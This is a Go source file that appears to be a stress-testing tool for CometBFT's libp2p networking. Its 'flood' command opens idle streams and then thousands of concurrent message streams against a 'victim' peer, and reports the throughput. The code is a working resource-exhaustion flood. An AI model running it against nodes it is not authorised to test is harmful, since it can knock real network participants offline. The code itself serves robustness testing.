package main

import (
	"context"
	"encoding/hex"
	"flag"
	"fmt"
	"sync"
	"sync/atomic"
	"time"

	"github.com/libp2p/go-libp2p/core/peer"

	"github.com/cometbft/cometbft/lp2p"
)

func floodCommand(set *flag.FlagSet) func(context.Context, *options) error {
	channelText := set.String("channel", "0x40", "channel")
	text := set.String("hex", "2200", "hex of a whole valid message; the default is block sync's StatusRequest")
	count := set.Int("count", 10000, "streams to open")
	concurrency := set.Int("concurrency", 500, "of them at once")
	idle := set.Int("idle", 0, "before that, streams to open on which nothing is ever sent")
	watch := watchFlag(set)
	return func(ctx context.Context, o *options) error {
		channel, err := parseChannel(*channelText)
		if err != nil {
			return err
		}
		message, err := hex.DecodeString(*text)
		if err != nil {
			return fmt.Errorf("--hex: %w", err)
		}
		return play(ctx, o, *watch, func(n *node, victim peer.ID) error {
			openIdle(ctx, n, victim, channel, *idle)
			flood(ctx, n, victim, channel, message, *count, *concurrency)
			return nil
		})
	}
}

func openIdle(ctx context.Context, n *node, victim peer.ID, channel byte, count int) {
	opened := 0
	var err error
	for ; opened < count && err == nil; opened++ {
		// Writing the length makes the negotiation happen even where it is lazy.
		stream, openErr := open(ctx, n, victim, channel)
		if err = openErr; err == nil {
			_, err = stream.Write([]byte{100})
		}
	}
	emit("idle", fields{"opened": opened, "error": textOf(err)})
}

func flood(ctx context.Context, n *node, victim peer.ID, channel byte, message []byte, count, concurrency int) {
	var next, sent, failed atomic.Int64
	var firstError atomic.Value
	var group sync.WaitGroup
	start := time.Now()
	for range concurrency {
		group.Go(func() {
			for next.Add(1) <= int64(count) && ctx.Err() == nil {
				stream, err := open(ctx, n, victim, channel)
				if err == nil {
					err = lp2p.StreamWriteClose(stream, message)
				}
				if err != nil {
					failed.Add(1)
					firstError.CompareAndSwap(nil, err.Error())
					continue
				}
				sent.Add(1)
			}
		})
	}
	group.Wait()
	elapsed := time.Since(start)
	report := usage(n.host.Network().Conns())
	report["sent"], report["failed"], report["first_error"] = sent.Load(), failed.Load(), firstError.Load()
	report["per_second"] = int(float64(sent.Load()) / elapsed.Seconds())
	emit("flooded", report)
}
